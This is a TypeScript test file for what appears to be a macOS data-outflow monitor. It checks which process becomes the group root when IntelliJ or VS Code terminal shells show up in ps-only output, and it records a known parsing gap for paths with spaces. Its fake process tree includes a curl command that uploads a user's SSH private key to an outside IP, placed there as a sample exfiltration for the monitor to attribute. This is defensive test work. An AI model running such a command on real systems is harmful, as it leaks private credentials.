/**
 * A host where only ps lists processes (no eslogger yet, or terminals opened before the extension started): an IDE's
 * terminal shell, started with a path that has spaces in it, is a group root (ps splits argv on
 * whitespace).
 */
/**
 * review8: a ps-only host (eslogger not running, or a terminal opened before the extension (re)started) lists an
 * IDE's terminal shell with argv joined by spaces; parse-ps splits it again on whitespace, so an option argument
 * holding a space (`/Applications/IntelliJ IDEA.app/…`, `/Applications/Visual Studio Code.app/…`) becomes a
 * "script operand" and the terminal shell stops being a group root (SPEC §4).
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, expect, it } from 'vitest';
import { fixedClock } from '../../src/clock.js';
import { parseConfig } from '../../src/config/index.js';
import { silentLogger } from '../../src/log.js';
import { FAKE_TOOLS_DIR } from '../../test/helpers/cli.js';
import { createContext } from '../runtime/create-context.js';
import { refreshProcessSnapshot } from './refresh.js';

const dirs: string[] = [];
afterEach(() => {
  delete process.env.OUTFLOW_FAKE_PS;
  delete process.env.OUTFLOW_FAKE_PS_ARGS;
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});

const L = 'Tue Mar  3 07:05:59 2026';
const IDEA = '/Applications/IntelliJ IDEA.app/Contents/MacOS/idea';
const VSCODE = '/Applications/Visual Studio Code.app/Contents/MacOS/Electron';
const HELPER = '/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper.app/Contents/MacOS/Code Helper';
const SI = '/Applications/Visual Studio Code.app/Contents/Resources/app/out/vs/workbench/contrib/terminal/common/scripts';

const CASES = [
  // JetBrains IDEs on macOS (ps output as seen in the wild): a root before 44dcdea (-i), not after it, a root again
  ['IntelliJ bash', [[900, 1, IDEA, IDEA], [950, 900, '/bin/bash', '/bin/bash --rcfile /Applications/IntelliJ IDEA.app/Contents/plugins/terminal/jediterm-bash.in -i']], { 900: ['com.jetbrains.intellij', '2ZEFAR8TH3'] }],
  // VS Code's bash / fish shell integration
  ['VS Code bash', [[700, 1, VSCODE, VSCODE], [710, 700, HELPER, HELPER], [950, 710, '/bin/bash', `/bin/bash --init-file ${SI}/shellIntegration-bash.sh`]], { 700: ['com.microsoft.VSCode', 'UBF8T346G9'], 710: ['com.microsoft.VSCode.helper', 'UBF8T346G9'] }],
  ['VS Code fish', [[700, 1, VSCODE, VSCODE], [710, 700, HELPER, HELPER], [950, 710, '/opt/homebrew/bin/fish', `fish --init-command source "${SI}/shellIntegration.fish"`]], { 700: ['com.microsoft.VSCode', 'UBF8T346G9'], 710: ['com.microsoft.VSCode.helper', 'UBF8T346G9'] }],
] as const;

/** The group root of a curl run in the IDE's terminal tab (pid 950), after one ps refresh of `rows`. */
async function rootOf(rows: (typeof CASES)[number][1], ids: (typeof CASES)[number][2]): Promise<{ root: number; kind: string }> {
  const dir = mkdtempSync(path.join(tmpdir(), 'ps-ide-'));
  dirs.push(dir);
  const all = [[1, 0, '/sbin/launchd', '/sbin/launchd'], ...rows, [960, 950, '/usr/bin/curl', 'curl -T /Users/dana/.ssh/id_ed25519 https://203.0.113.5/']] as const;
  writeFileSync(path.join(dir, 'ps.txt'), all.map(([pid, ppid, comm]) => `${String(pid).padStart(5)} ${String(ppid).padStart(5)}   501 ${L} ${comm}\n`).join(''));
  writeFileSync(path.join(dir, 'args.txt'), all.map(([pid, , , args]) => `${String(pid).padStart(5)} ${args}\n`).join(''));
  process.env.OUTFLOW_FAKE_PS = path.join(dir, 'ps.txt');
  process.env.OUTFLOW_FAKE_PS_ARGS = path.join(dir, 'args.txt');
  const clock = fixedClock(1_772_540_000);
  const ctx = createContext({ platform: 'darwin', config: parseConfig({ tools: { dir: FAKE_TOOLS_DIR } }), log: silentLogger(), clock });
  try {
    await refreshProcessSnapshot(ctx);
    // identity as code_signing's enrichProcessIdentity copies it on a ps-only host
    for (const [pid, [signingId, teamId]] of Object.entries(ids)) {
      const p = ctx.processes.get(Number(pid))!;
      ctx.processes.observe({ pid: p.pid, processStart: p.processStart, signingId, teamId, platformBinary: false, source: 'ps', seenAt: clock.unix() });
    }
    const g = ctx.processes.group(ctx.processes.get(960)!);
    return { root: g.root.pid, kind: g.rootKind };
  } finally {
    await ctx.signing.stop();
  }
}

it('ps-only: the IntelliJ bash terminal tab is a group root', async () => {
  expect(await rootOf(CASES[0][1], CASES[0][2])).toEqual({ root: 950, kind: 'terminal_shell' });
});

it.each([CASES[1], CASES[2]])('ps-only: the %s terminal tab goes to the IDE app (known gap: its split path reads as a script)', async (_n, rows, ids) => {
  expect(await rootOf(rows, ids)).toEqual({ root: 700, kind: 'gui_app' });
});
